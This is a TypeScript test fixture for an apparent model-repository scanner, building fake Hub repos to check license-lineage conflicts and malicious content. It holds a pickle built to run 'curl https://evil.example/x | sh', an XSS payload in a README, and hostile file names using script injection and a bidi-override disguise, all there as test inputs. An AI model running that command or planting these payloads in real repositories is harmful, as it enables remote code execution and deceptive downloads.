import { readFileSync } from "node:fs";
import { join } from "node:path";
import { scan } from "../../src/scan.js";
import type { ScanReport } from "../../src/types/report.js";
import { osSystemPickle } from "../builders/pickle-builder.js";
import { tempCache } from "../sources/hub-helpers.js";
import { startFakeHub, type FakeRepo } from "../support/fake-hub.js";

const ROOT = join(import.meta.dirname, "..", "..");
const CLEAN = join(ROOT, "fixtures", "repos", "tiny-safetensors-clean");
const fixture = (name: string): Buffer => readFileSync(join(CLEAN, name));

export const HOSTILE_NAMES = {
  script: "<script>alert(1)</script>.txt",
  quotes: `"onmouseover='alert(2)'.txt`,
  bidi: "invoice\u202Etxt.exe",
  long: `${"a".repeat(600)}.bin`,
};

const CARD = [
  "---",
  "license: apache-2.0",
  "base_model: meta-llama/Llama-2-7b-hf",
  "datasets: [acme/nc-chats]",
  "pipeline_tag: text-generation",
  "---",
  "# Llama chat fine-tune",
  "",
  "## Model Details",
  "A LlamaForCausalLM decoder-only transformer fine-tuned for chat.",
  "",
  "## Training Data",
  "Fine-tuned on acme/nc-chats, a set of support conversations.",
  "",
  "## Intended Use",
  "Internal support drafting.",
  "",
  "## Limitations",
  "May produce wrong answers.",
  "",
].join("\n");

/**
 * Two Hub scans through the fake Hub, as an assessor would get them: a fine-tune whose lineage
 * carries a license conflict, assessed under tier 3, and a repo with a malicious pickle and hostile
 * file names.
 */
export async function evidenceReports(): Promise<{ lineage: ScanReport; hostile: ScanReport }> {
  const finetune: FakeRepo = {
    id: "acme/llama-chat-ft",
    info: { library_name: "transformers", pipeline_tag: "text-generation", cardData: { license: "apache-2.0" } },
    files: [
      { path: "README.md", content: CARD },
      { path: "config.json", content: fixture("config.json") },
      { path: "tokenizer_config.json", content: fixture("tokenizer_config.json") },
      { path: "model.safetensors", content: fixture("model.safetensors"), lfs: true },
    ],
  };
  const base: FakeRepo = { id: "meta-llama/Llama-2-7b-hf", info: { cardData: { license: "llama2" } }, files: [{ path: "README.md", content: "---\nlicense: llama2\n---\n# Llama 2\n" }] };
  const data: FakeRepo = { id: "acme/nc-chats", kind: "dataset", info: { cardData: { license: "cc-by-nc-4.0" } }, files: [{ path: "README.md", content: "---\nlicense: cc-by-nc-4.0\n---\n# chats\n" }] };
  const hostile: FakeRepo = {
    id: "evil/model",
    info: { cardData: {} },
    files: [
      { path: "README.md", content: "# evil <img src=x onerror=alert(3)>\n" },
      { path: "pytorch_model.bin", content: osSystemPickle("curl https://evil.example/x | sh"), lfs: true },
      ...Object.values(HOSTILE_NAMES).map((path) => ({ path, content: "hello\n" })),
    ],
  };
  const hub = await startFakeHub({ repos: [finetune, base, data, hostile] });
  const cache = tempCache();
  try {
    const common = { hubUrl: hub.url, cacheDir: cache.dir, timestamp: false };
    return { lineage: await scan({ ...common, target: "acme/llama-chat-ft", tier: 3 }), hostile: await scan({ ...common, target: "evil/model" }) };
  } finally {
    await hub.close();
    cache.cleanup();
  }
}
